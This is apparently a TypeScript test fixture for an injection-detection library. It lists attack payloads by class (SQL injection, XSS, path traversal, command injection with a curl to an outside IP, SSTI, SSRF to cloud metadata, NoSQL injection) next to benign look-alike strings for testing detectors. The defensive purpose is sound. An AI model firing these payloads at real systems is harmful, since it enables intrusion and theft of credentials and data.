import type { Location, Signal } from '../../../../src/event/index.js';
import { inspectValue } from '../../../../src/inspect/injection/inspect-value.js';

/** Written by hand, by class; what sensors tell of them is asked of the sensors' own inspection. */
export const payloads: Readonly<Record<string, readonly string[]>> = {
  sqli: [
    `'`,
    `1'`,
    `1 AND 1=1`,
    `1' AND '1'='1`,
    `' OR 1=1 -- -`,
    `1) OR (1=1`,
    `1 UNION SELECT NULL,NULL,NULL-- -`,
    `-1' UNION ALL SELECT table_name,2 FROM information_schema.tables-- `,
    `1' AND SLEEP(5)-- -`,
    `1;SELECT pg_sleep(5)--`,
    `%27%20oR%20%271%27%3D%271`,
    `1'/**/oR/**/2>1#`,
    `1' AND EXTRACTVALUE(1,CONCAT(0x7e,version()))-- -`,
  ],
  xss: [
    `<script>alert(1)</script>`,
    `"><img src=x onerror=alert(1)>`,
    `javascript:alert(document.cookie)`,
    `<svg/onload=confirm(1)>`,
    `%3Csvg%20onload%3Dalert(1)%3E`,
    `';alert(1)//`,
  ],
  path: [
    `../../../../etc/passwd`,
    `..%2f..%2f..%2fetc%2fpasswd`,
    `....//....//etc/passwd`,
    `file:///etc/shadow`,
    `..\\..\\windows\\win.ini`,
  ],
  cmdi: [
    `;id`,
    `| cat /etc/passwd`,
    '`sleep 5`',
    `$(curl http://203.0.113.7/x)`,
    `& ping -c 5 127.0.0.1`,
    `;w\${IFS}h\${IFS}oami`,
  ],
  ssti: [`{{7*7}}`, `\${7*7}`, `{{config.__class__.__init__.__globals__}}`, `<%= 7*7 %>`],
  ssrf: [
    `http://169.254.169.254/latest/meta-data/`,
    `http://127.0.0.1:6379/`,
    `http://[::1]/admin`,
    `gopher://127.0.0.1:25/`,
  ],
  nosqli: [`{"$gt":""}`, `' || '1'=='1`, `{"$where":"sleep(5000)"}`],
};

/** What people write who mean no harm. */
export const ordinary: readonly string[] = [
  `Anne O'Brien`,
  `Rock & Roll; see you at 8`,
  `Select the best from our menu`,
  `price < 5 and size > 3`,
  `Please drop by the table near the union square`,
  `It's 50% off -- hurry!`,
  `<b>thanks</b> a lot`,
  `C:\\temp\\report.txt`,
  `see http://example.com/a?b=c&d=e`,
  `use {{name}} in your template`,
];

/** As a forum about databases or the web has it: the very text of an attack, as content. */
export const quoted: readonly string[] = [
  `Why does SELECT * FROM users WHERE name = '' OR 1=1 -- return everything?`,
  `My page shows <script>alert(1)</script> as text, how?`,
  `cat /etc/passwd | grep root; echo done`,
  `' OR '1'='1`,
];

const remembered = new Map<string, readonly Signal[]>();

export function signalsOf(text: string, location: Location, name: string): readonly Signal[] {
  const key = `${location} ${name} ${text}`;
  const known = remembered.get(key);
  if (known) return known;
  const signals = inspectValue(text, location).map(({ rule, class: kind, confidence, fingerprint }) => ({
    ...{ rule, class: kind, confidence, location, name },
    ...(fingerprint === undefined ? {} : { fingerprint: fingerprint.slice(0, 200) }),
  }));
  if (remembered.size < 5000) remembered.set(key, signals);
  return signals;
}
